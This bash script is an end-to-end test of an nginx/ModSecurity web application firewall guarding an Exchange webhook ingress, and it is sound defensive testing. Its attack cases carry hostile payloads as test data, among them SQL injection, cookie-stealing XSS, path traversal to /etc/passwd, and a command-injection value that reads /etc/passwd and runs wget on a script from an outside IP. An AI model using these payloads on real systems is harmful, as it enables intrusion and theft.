#!/usr/bin/env bash
# End-to-end WAF test: Debian's nginx + ModSecurity + OWASP CRS, configured from the
# chart's Ingress (.dev/waf.sh), in front of a real webhook-ingress (started here on
# free ports, recording to the local Kafka). Genuine SendNotification pushes of every
# event kind must reach the ingress and be acknowledged; attacks must be answered by
# the WAF (403/405/413/415/400/404) and never reach it (nginx's upstream log, and the
# ingress's own request counter).
#   WAF_UPSTREAM=host:port  test in front of an ingress that is already running instead
# Prints one line per case and the figures; exits 1 on any failure.
set -euo pipefail
# shellcheck source=.dev/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

export PATH="$("$ROOMS_ROOT/.dev/node.sh"):$PATH"
RUN="$(ensure_run_dir waf-test)"
FIXTURES="$ROOMS_ROOT/libs/ews/src/fixtures"
CORPUS="$ROOMS_ROOT/.dev/waf/corpus"
WAF_ACCESS_LOG="$ROOMS_RUN/waf/logs/access.log"
rm -f "$RUN"/*

free_port() { node -e 'const s=require("net").createServer().listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})'; }

ingress_pid=""
cleanup() {
  "$ROOMS_ROOT/.dev/waf.sh" stop || true
  if [ -n "$ingress_pid" ]; then kill "$ingress_pid" 2>/dev/null || true; fi
}
trap cleanup EXIT

"$ROOMS_ROOT/.dev/waf.sh" install
if [ -n "${WAF_UPSTREAM:-}" ]; then
  upstream="$WAF_UPSTREAM" ops=""
else
  http_port=$(free_port) ops_port=$(free_port)
  (cd "$ROOMS_ROOT" && HttpPort=$http_port OpsPort=$ops_port ROOMS_APPSETTINGS_PATH= \
    exec node services/webhook-ingress/src/main.ts >"$RUN/ingress.log" 2>&1) &
  ingress_pid=$!
  ops="http://127.0.0.1:$ops_port"
  for _ in $(seq 1 100); do curl -fsS -o /dev/null "$ops/readyz" 2>/dev/null && break; sleep 0.2; done
  curl -fsS -o /dev/null "$ops/readyz" || die "webhook-ingress did not become ready; see $RUN/ingress.log"
  upstream="127.0.0.1:$http_port"
fi
listen="127.0.0.1:$(free_port)"
"$ROOMS_ROOT/.dev/waf.sh" stop
WAF_LISTEN="$listen" WAF_UPSTREAM="$upstream" "$ROOMS_ROOT/.dev/waf.sh" start
paranoia=$(sed -n 's/.*setvar:tx.paranoia_level=\([0-9]\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
threshold=$(sed -n 's/.*setvar:tx.inbound_anomaly_score_threshold=\([0-9]*\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
base="http://$listen"

# send CASE METHOD PATH CONTENT_TYPE BODY_FILE|-  -> prints the HTTP status
send() {
  local name=$1 method=$2 path=$3 ctype=$4 body=$5 args=()
  [ "$body" = - ] || args+=(--data-binary "@$body")
  [ -z "$ctype" ] || args+=(-H "Content-Type: $ctype")
  curl -s -o /dev/null -w '%{http_code}' --path-as-is -X "$method" -H "X-Waf-Test-Case: $name" \
    -H 'User-Agent: ExchangeServicesClient/15.20.8000.000' "${args[@]}" "$base$path" || echo 000
}

# reached CASE: how many requests of that case nginx passed to the upstream
reached() {
  grep -F "\"case\":\"$1\"" "$WAF_ACCESS_LOG" | grep -vcF '"upstream":""' || true
}

XML='text/xml; charset=utf-8'
genuine_total=0 genuine_ok=0 attack_total=0 attack_ok=0 failures=0
genuine() { # genuine CASE METHOD PATH CTYPE BODY
  local status
  genuine_total=$((genuine_total + 1))
  status=$(send "$@")
  sleep 0.05
  if [[ "$status" == 2* ]] && [ "$(reached "$1")" -ge 1 ]; then
    genuine_ok=$((genuine_ok + 1)); printf 'pass    %-44s %s -> upstream\n' "$1" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (genuine push blocked or not forwarded)\n' "$1" "$status"
  fi
}
attack() { # attack CASE EXPECTED_STATUSES METHOD PATH CTYPE BODY
  local name=$1 expected=$2 status
  shift 2
  attack_total=$((attack_total + 1))
  status=$(send "$name" "$@")
  sleep 0.05
  if [[ " $expected " == *" $status "* ]] && [ "$(reached "$name")" -eq 0 ]; then
    attack_ok=$((attack_ok + 1)); printf 'stopped %-44s %s at the WAF\n' "$name" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (expected %s, upstream saw %s)\n' "$name" "$status" "$expected" "$(reached "$name")"
  fi
}

# --- genuine pushes: the ews fixtures (captured-like) and one per event kind ----------------
for f in "$FIXTURES"/*.xml "$CORPUS"/genuine/*.xml; do
  genuine "genuine/$(basename "$f" .xml)" POST /api/webhooks/exchange "$XML" "$f"
done
genuine "genuine/legacy-endpoint-heartbeat" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/status-heartbeat.xml"
genuine "genuine/healthz" GET /healthz "" -

# --- attacks -------------------------------------------------------------------------------------
mk() { # mk NAME SED_EXPR: a genuine push with one value replaced
  sed "$2" "$CORPUS/genuine/02-created-event.xml" >"$RUN/$1.xml"
  echo "$RUN/$1.xml"
}
sub='s|<t:SubscriptionId>[^<]*</t:SubscriptionId>|<t:SubscriptionId>VALUE</t:SubscriptionId>|'
attack sqli-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-text "${sub/VALUE/1\' UNION SELECT password FROM users WHERE \'1\'=\'1}")"
attack sqli-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-attribute 's|<t:ItemId Id="[^"]*"|<t:ItemId Id="x\x27 OR 1=1; DROP TABLE reservations; --"|')"
attack xss-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-text "${sub/VALUE/\&lt;script\&gt;alert(document.cookie)\&lt;/script\&gt;}")"
attack xss-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-attribute 's|ChangeKey="DwAAA[^"]*"|ChangeKey="\&quot;\&gt;\&lt;svg onload=alert(1)\&gt;"|')"
attack command-injection-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk command-injection-in-text "${sub/VALUE/x; cat /etc/passwd; wget http://203.0.113.7/x.sh}")"
for h in xxe-external-entity billion-laughs php-processing-instruction stylesheet-processing-instruction; do
  attack "$h" "403" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/$h.xml"
done
attack xxe-in-legacy-endpoint "403" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/hostile/xxe-external-entity.xml"
attack malformed-xml "400" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/truncated.xml"
attack path-traversal-in-path "400 403 404" GET '/api/webhooks/exchange/../../../../etc/passwd' "" -
attack path-traversal-encoded "400 403 404" GET '/healthz/..%2f..%2f..%2fetc%2fpasswd' "" -
attack path-traversal-in-query "403" POST '/api/webhooks/exchange?file=../../../../etc/passwd' "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack path-traversal-healthz-query "403" GET '/healthz?x=..%2f..%2f..%2f..%2fetc%2fpasswd' "" -
attack wrong-method-get "405" GET /api/webhooks/exchange "" -
attack wrong-method-put "405" PUT /api/webhooks/exchange "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack wrong-method-delete "405" DELETE /api/webhooks/exchange "" -
attack wrong-method-post-healthz "405" POST /healthz "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
head -c 2097152 /dev/zero | tr '\0' 'A' | sed '1s|^|<?xml version="1.0"?><x>|' >"$RUN/oversize.xml"
echo '</x>' >>"$RUN/oversize.xml"
attack oversize-body-2MiB "413" POST /api/webhooks/exchange "$XML" "$RUN/oversize.xml"
printf 'a=1&b=%%27%%20OR%%201%%3D1--' >"$RUN/form.txt"
attack wrong-content-type-form "415" POST /api/webhooks/exchange "application/x-www-form-urlencoded" "$RUN/form.txt"
attack metrics-not-exposed "404" GET /metrics "" -

# The ingress's own count: every webhook request it saw was a genuine push, none refused.
extra_ok=0
if [ -n "$ops" ]; then
  seen=$(curl -fsS "$ops/metrics" | awk '/^rooms_ingress_requests_total\{/ { n += $NF } END { print n + 0 }')
  refused=$(curl -fsS "$ops/metrics" | awk '/^rooms_ingress_refusals_total\{/ { n += $NF } END { print n + 0 }')
  webhook_genuine=$((genuine_total - 1)) # all but GET /healthz
  if [ "$seen" -eq "$webhook_genuine" ] && [ "$refused" -eq 0 ]; then
    printf 'pass    %-44s %s\n' "ingress saw only the genuine pushes" "$seen requests, $refused refused"
    extra_ok=1
  else
    failures=$((failures + 1)); printf 'FAIL    ingress saw %s webhook requests (%s refused), expected %s genuine and 0 refused\n' "$seen" "$refused" "$webhook_genuine"
  fi
fi

echo "WAF (CRS 3.3 via Debian's nginx + libmodsecurity 3, paranoia level ${paranoia:-?}, anomaly threshold ${threshold:-?}):" \
  "genuine passed $genuine_ok/$genuine_total, attacks stopped $attack_ok/$attack_total"
echo "waf-test: $((genuine_ok + attack_ok + extra_ok)) passed, $failures failed"
[ "$failures" -eq 0 ]
